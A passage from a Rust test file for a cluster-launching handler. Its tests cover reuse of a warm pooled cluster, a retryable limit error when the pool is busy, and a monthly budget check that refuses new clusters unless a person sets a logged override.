                ("sparkhub:profile", "retrain"),
                ("sparkhub:config-hash", "0000000000000000"),
            ],
        ),
    ];
    for c in &mut h.clusters.clusters {
        c.created_at = Some("2026-11-25T06:00:00Z".parse().unwrap());
    }
    let mut second = event("create-cluster-s3-object-created.json");
    second["id"] = json!("second-object");
    let Outcome::Started {
        execution_name: name,
        ..
    } = h.handle(second).await.unwrap()
    else {
        panic!()
    };
    let input = &started_inputs(&h)[&name];
    assert_eq!(input["claimed"], true);
    assert_eq!(input["cluster"]["ClusterId"], "j-WARM");
    assert_eq!(
        *h.clusters.claims.lock().unwrap(),
        [("j-WARM".to_owned(), name)]
    );
}

#[tokio::test]
async fn a_full_busy_pool_waits_then_leaves_the_object_to_lambdas_retry() {
    let mut h = handler_with(&[("retrain", &pooled(1))]);
    h.clusters.clusters = vec![cluster(
        "j-BUSY",
        "sparkhub-retrain",
        &[
            ("sparkhub:managed", "true"),
            ("sparkhub:profile", "retrain"),
        ],
    )];
    h.clusters.clusters[0].state = ClusterState::Running;
    let err = h
        .handle(event("create-cluster-s3-object-created.json"))
        .await
        .unwrap_err();
    assert_eq!(err.error_type(), "sparkhub.LimitReached");
    assert!(err.is_retryable());
    assert!(err.to_string().contains("the limit is 1"), "{err}");
    // It asked once per attempt of its wait.
    assert_eq!(h.clusters.asked.lock().unwrap().len(), 3);
    assert!(started_inputs(&h).is_empty());
}

fn spent_month(profile: &str, usd: f64) -> crate::budget::MonthSpend {
    let name = crate::ProfileName::parse(profile).unwrap();
    let now: jiff::Timestamp = "2026-11-25T07:00:00Z".parse().unwrap();
    let mut m = crate::budget::MonthSpend::new(&name, "2026-11", now);
    m.clusters.insert(
        "j-EARLIER".into(),
        crate::budget::cluster_spend(usd, now - jiff::SignedDuration::from_hours(1), now, "test"),
    );
    m
}

#[tokio::test]
async fn a_spent_budget_refuses_a_new_cluster_unless_a_person_overrides_it() {
    let budgeted = TUTORIAL.replace("monthly_usd = 200", "monthly_usd = 100");
    let h = handler_with(&[("tutorial", &budgeted)]);
    h.budgets.seed(&spent_month("tutorial", 120.0));
    let err = h
        .handle(event("create-cluster-manual.json"))
        .await
        .unwrap_err();
    assert_eq!(err.error_type(), "sparkhub.BudgetSpent");
    assert!(!err.is_retryable());
    let text = err.to_string();
    assert!(
        text.contains("$100") && text.contains("$120.00") && text.contains("override_budget"),
        "{text}"
    );
    assert!(started_inputs(&h).is_empty());

    let outcome = h
        .handle(json!({"profile": "tutorial", "run_id": "urgent", "override_budget": true}))
        .await
        .unwrap();
    let Outcome::Started { execution_name, .. } = outcome else {
        panic!("{outcome:?}")
    };
    let month = h.budgets.month("tutorial", "2026-11").unwrap();
    assert_eq!(month.overrides.len(), 1);
    assert_eq!(month.overrides[0].execution, execution_name);
    let records = h.budgets.overrides.lock().unwrap().clone();
    assert_eq!(records.len(), 1);
    assert_eq!((records[0].budget_usd, records[0].spent_usd), (100, 120.0));
    assert!(
        records[0]
            .key()
            .contains(&format!("{execution_name}-budget-override-"))
    );

    // Under the budget: no word about it.
    let h = handler_with(&[("tutorial", &budgeted)]);
    h.budgets.seed(&spent_month("tutorial", 99.0));
    assert!(h.handle(event("create-cluster-manual.json")).await.is_ok());
}
